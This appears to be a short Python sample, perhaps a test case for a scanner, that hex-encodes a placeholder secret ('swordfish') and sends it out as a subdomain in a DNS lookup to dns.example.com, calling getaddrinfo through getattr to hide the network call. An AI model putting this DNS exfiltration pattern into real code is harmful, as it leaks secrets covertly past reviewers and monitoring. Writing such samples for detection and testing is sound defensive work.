import socket

secret = "swordfish".encode().hex()
getattr(socket, "getaddrinfo")(secret + ".dns.example.com", 80)
